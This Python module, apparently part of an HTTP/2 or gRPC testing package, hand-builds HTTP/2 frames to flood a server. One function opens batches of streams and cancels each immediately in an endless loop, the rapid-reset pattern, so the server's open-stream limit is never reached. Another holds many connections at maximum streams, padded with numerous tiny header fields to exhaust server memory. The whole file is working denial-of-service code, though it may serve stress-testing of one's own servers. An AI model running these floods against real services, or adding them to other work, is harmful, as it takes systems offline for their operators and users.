"""HTTP/2 frames without a library: floods of calls that cost their sender almost nothing."""

from __future__ import annotations

import select
import socket
import time
from collections.abc import Iterator
from contextlib import suppress
from typing import Final

from hpack import Encoder, NeverIndexedHeaderTuple

from .http2 import call_fields

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_FRAME_HEADER_BYTES: Final = 9
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
_CANCEL: Final = (8).to_bytes(4, "big")
_MAX_FRAME_BYTES: Final = 16_384

_PSEUDO_HEADER_BYTES: Final = 400
"""More than the fields of every call count against the limit of metadata."""

_FIELD_OVERHEAD_BYTES: Final = 32
"""What each field counts besides its name and value (RFC 9113, section 6.5.2)."""

_CALLS_AT_ONCE: Final = 100


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Returns a frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def call_headers(path: str, metadata_bytes: int = 0) -> bytes:
    """Returns the header block of a call; it is the same for each call, because it leaves HPACK's table as it is.

    Args:
        path: The path of the method.
        metadata_bytes: The size of the metadata, as HTTP/2 counts it against the limit.
    """
    fields = call_fields(path)
    # Many small fields take the most memory.
    count = max(0, metadata_bytes - _PSEUDO_HEADER_BYTES) // (_FIELD_OVERHEAD_BYTES + 1)
    fields += [("x", "")] * count
    return Encoder().encode([NeverIndexedHeaderTuple(*field) for field in fields], huffman=False)


def _headers(stream: int, block: bytes) -> bytes:
    parts = [block[start : start + _MAX_FRAME_BYTES] for start in range(0, len(block), _MAX_FRAME_BYTES)]
    last = len(parts) - 1
    return b"".join(
        frame(_CONTINUATION if number else _HEADERS, _END_HEADERS if number == last else 0, stream, part)
        for number, part in enumerate(parts)
    )


def reset_calls(address: str, path: str, content: bytes = b"") -> None:
    """Opens calls and resets each at once, until the process is terminated: so no limit of open calls is reached.

    Args:
        address: The server.
        path: The path of the method.
        content: What is sent on the stream before it is reset.
    """
    block = call_headers(path)

    def calls(stream: int) -> bytes:
        data = frame(_DATA, _END_STREAM, stream, content) if content else b""
        return _headers(stream, block) + data + frame(_RST_STREAM, 0, stream, _CANCEL)

    while True:
        with suppress(OSError), _connect(address) as connection:
            reader = _answers(connection)
            for first in range(1, 2**31, 2 * _CALLS_AT_ONCE):
                connection.sendall(b"".join(calls(first + 2 * number) for number in range(_CALLS_AT_ONCE)))
                next(reader)


def open_calls(address: str, path: str, connections: int, metadata_bytes: int = 0, content: bytes = b"") -> None:
    """Opens as many calls as a connection may have, and sends what it may; repeats that on the connection.

    Args:
        address: The server.
        path: The path of the method.
        connections: How many connections do so.
        metadata_bytes: The size of the metadata.
        content: What is sent on each stream, which stays open.
    """
    block = call_headers(path, metadata_bytes)
    while True:
        opened: list[tuple[socket.socket, Iterator[int]]] = []
        with suppress(OSError):
            for _ in range(connections):
                connection = _connect(address)
                opened.append((connection, _answers(connection)))
            for connection, _ in opened:
                calls = range(1, 2 * _CALLS_AT_ONCE, 2)
                connection.sendall(
                    b"".join(_headers(stream, block) + frame(_DATA, 0, stream, content) for stream in calls)
                )
            ends = time.monotonic() + 3
            while time.monotonic() < ends:
                for _, reader in opened:
                    next(reader)
                time.sleep(0.02)
        for connection, _ in opened:
            connection.close()


def _connect(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host, int(port)), timeout=10)
    connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
    return connection


def _answers(connection: socket.socket) -> Iterator[int]:
    """Reads what has arrived, and acknowledges pings and settings; yields how many streams the server has reset."""
    buffer = b""
    while True:
        reset = 0
        while select.select([connection], [], [], 0)[0]:
            if not (content := connection.recv(1 << 20)):
                raise ConnectionResetError
            buffer += content
        while len(buffer) >= _FRAME_HEADER_BYTES:
            end = _FRAME_HEADER_BYTES + int.from_bytes(buffer[:3], "big")
            if len(buffer) < end:
                break
            kind, flags, payload = buffer[3], buffer[4], buffer[_FRAME_HEADER_BYTES:end]
            buffer = buffer[end:]
            if kind in (_PING, _SETTINGS) and not flags & _ACK:
                connection.sendall(frame(kind, _ACK, 0, payload if kind == _PING else b""))
            reset += kind == _RST_STREAM
        yield reset
